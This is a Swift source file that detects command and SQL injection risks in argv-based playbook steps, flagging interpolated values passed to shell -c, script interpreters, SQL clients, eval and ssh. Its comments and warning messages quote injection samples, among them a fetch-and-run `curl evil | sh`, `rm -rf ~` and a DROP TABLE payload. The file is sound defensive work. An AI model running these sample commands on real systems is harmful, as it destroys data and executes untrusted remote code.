/// Programs in an argv that re-parse an argument as code: a shell's `-c` script, `python -c`,
/// `psql -c` SQL, ssh's remote command. argv keeps alert data out of rbx's own shell, but a value
/// interpolated into such an argument is code again: `x; curl evil | sh` in a label runs.
///
/// The programs are found anywhere in argv, so wrappers are covered too: `docker exec web sh -c …`,
/// `kubectl exec pod -- bash -c …`, `sudo -u pg psql -c …`, `timeout 5 python3 -c …`.
public enum CodeEvaluation {
    /// An interpolated argument that a program runs as code.
    public struct Finding: Sendable, Equatable {
        /// The argv index of the code argument.
        public var index: Int
        public var message: String
    }

    /// A program whose argument after one of `flags` is code in `language`.
    struct Interpreter {
        var language: String
        var flags: Set<String>
        /// A single-dash cluster holding this letter also introduces the code (`bash -lc`, `sh -ec`);
        /// only shells take their code that way.
        var clusterLetter: Character?
        /// `--command=SQL` carries the code in the same element.
        var inlinePrefixes: [String]
        var remedy: String
    }

    static let shellRemedy =
        "pass the value as a positional parameter after the script (sh -c 'df -- \"$1\"' sh \"{{…}}\") "
        + "or use shell:, which quotes every value"
    static let scriptRemedy = "pass the value as an argument after the code and read it from argv"
    static let interpreters: [String: Interpreter] = {
        var table: [String: Interpreter] = [:]
        for shell in ["sh", "bash", "zsh", "dash", "ksh", "ash", "fish"] {
            table[shell] = Interpreter(
                language: "a shell script", flags: ["-c"], clusterLetter: "c", inlinePrefixes: [],
                remedy: shellRemedy)
        }
        for python in ["python", "python2", "python3"] {
            table[python] = Interpreter(
                language: "Python code", flags: ["-c"], clusterLetter: nil, inlinePrefixes: [], remedy: scriptRemedy)
        }
        table["perl"] = Interpreter(
            language: "Perl code", flags: ["-e", "-E"], clusterLetter: nil, inlinePrefixes: [], remedy: scriptRemedy)
        table["ruby"] = Interpreter(
            language: "Ruby code", flags: ["-e"], clusterLetter: nil, inlinePrefixes: [], remedy: scriptRemedy)
        table["node"] = Interpreter(
            language: "JavaScript", flags: ["-e", "--eval", "-p", "--print"], clusterLetter: nil,
            inlinePrefixes: ["--eval="], remedy: scriptRemedy)
        table["php"] = Interpreter(
            language: "PHP code", flags: ["-r"], clusterLetter: nil, inlinePrefixes: [], remedy: scriptRemedy)
        table["psql"] = Interpreter(
            language: "SQL", flags: ["-c", "--command"], clusterLetter: nil, inlinePrefixes: ["--command="],
            remedy: "pass the value with -v name=value and write :'name' in the SQL, which psql quotes")
        for mysql in ["mysql", "mariadb"] {
            table[mysql] = Interpreter(
                language: "SQL", flags: ["-e", "--execute"], clusterLetter: nil, inlinePrefixes: ["--execute="],
                remedy: "check the value with a playbook input pattern before it reaches SQL")
        }
        return table
    }()

    /// ssh options that take a value, so the host is found after them.
    static let sshOptionsWithValue: Set<Character> = [
        "B", "b", "c", "D", "E", "e", "F", "I", "i", "J", "L", "l", "m", "O", "o", "p", "Q", "R", "S", "W", "w",
    ]

    /// Every interpolated argument of `argv` that a program in it runs as code.
    public static func findings(in argv: [InterpolatedText]) -> [Finding] {
        var findings: [Finding] = []
        var reported = Set<Int>()
        func report(_ index: Int, _ message: String) {
            if reported.insert(index).inserted { findings.append(Finding(index: index, message: message)) }
        }
        for (position, element) in argv.enumerated() where element.interpolation.isLiteral {
            let program = programName(element)
            if program == "eval" {
                for index in (position + 1)..<argv.count where !argv[index].interpolation.isLiteral {
                    report(index, "eval runs its arguments as a shell command; " + danger("on this host", shellRemedy))
                }
            } else if program == "ssh" {
                for index in sshRemoteCommand(argv, after: position) where !argv[index].interpolation.isLiteral {
                    report(
                        index,
                        "ssh joins its remote command into one string that the remote shell parses; "
                            + danger(
                                "on the remote host",
                                "check the value with a playbook input pattern, or run a script on the host that "
                                    + "takes it as an argument"))
                }
            } else if let interpreter = interpreters[program],
                let code = codeArgument(of: interpreter, in: argv, after: position),
                !argv[code].interpolation.isLiteral
            {
                let wrapped = position > 0 ? " (started by \(argv[0].text))" : ""
                report(
                    code,
                    "\(program)\(wrapped) runs argv[\(code)] as \(interpreter.language), and it interpolates a value; "
                        + danger(
                            "as \(interpreter.language)", interpreter.remedy,
                            example: interpreter.language == "SQL"
                                ? "`'; DROP TABLE …`" : "`x; rm -rf ~` or `$(curl …)`"))
            }
        }
        return findings
    }

    /// `run: [sh, -c, SCRIPT]` with a script written in the catalog: a shell step by another name.
    /// Returns the shell's name and the script's index.
    public static func literalShellScript(in argv: [InterpolatedText]) -> (shell: String, index: Int)? {
        guard let first = argv.first, first.interpolation.isLiteral else { return nil }
        let shell = programName(first)
        guard let interpreter = interpreters[shell], interpreter.clusterLetter != nil,
            let script = codeArgument(of: interpreter, in: argv, after: 0), argv[script].interpolation.isLiteral
        else { return nil }
        return (shell, script)
    }

    /// `/usr/bin/bash` → `bash`: the last part between slashes that is not empty.
    ///
    /// Asked of every literal argv element of every step. ASCII text (nearly all) is cut by
    /// bytes, where a `/` is always its own character; other text is split by characters.
    private static func programName(_ element: InterpolatedText) -> String {
        let text = element.text
        let bytes = text.utf8
        guard bytes.allSatisfy({ $0 < 0x80 }) else { return String(text.split(separator: "/").last ?? "") }
        let slash = UInt8(ascii: "/")
        var end = bytes.endIndex
        while end > bytes.startIndex, bytes[bytes.index(before: end)] == slash { end = bytes.index(before: end) }
        var start = end
        while start > bytes.startIndex, bytes[bytes.index(before: start)] != slash {
            start = bytes.index(before: start)
        }
        return start == bytes.startIndex && end == bytes.endIndex ? text : String(text[start..<end])
    }

    private static func danger(
        _ where: String, _ remedy: String, example: String = "`x; rm -rf ~` or `$(curl …)`"
    )
        -> String
    {
        "anyone who can fire an alert chooses its labels, and a label such as \(example) would run \(`where`). "
            + "Instead, \(remedy)"
    }

    /// The index of the element holding the code, if the interpreter at `position` is given some.
    static func codeArgument(of interpreter: Interpreter, in argv: [InterpolatedText], after position: Int) -> Int? {
        var index = position + 1
        while index < argv.count {
            let text = argv[index].text
            if interpreter.inlinePrefixes.contains(where: text.hasPrefix) { return index }
            if interpreter.flags.contains(text) { return index + 1 < argv.count ? index + 1 : nil }
            if let letter = interpreter.clusterLetter, text.hasPrefix("-"), !text.hasPrefix("--"),
                text.dropFirst().contains(letter), text.dropFirst().allSatisfy(\.isLetter)
            {
                return index + 1 < argv.count ? index + 1 : nil
            }
            index += 1
        }
        return nil
    }

    /// The indices of ssh's remote command: everything after its options and the host.
    static func sshRemoteCommand(_ argv: [InterpolatedText], after position: Int) -> Range<Int> {
        var index = position + 1
        while index < argv.count {
            let text = argv[index].text
            if text == "--" { return min(index + 2, argv.count)..<argv.count }
            guard text.hasPrefix("-"), text.count > 1 else { return min(index + 1, argv.count)..<argv.count }
            // `-o Opt=x` takes the next element; `-oOpt=x` and `-vv` do not.
            if let last = text.last, text.count == 2, sshOptionsWithValue.contains(last) { index += 1 }
            index += 1
        }
        return argv.count..<argv.count
    }
}
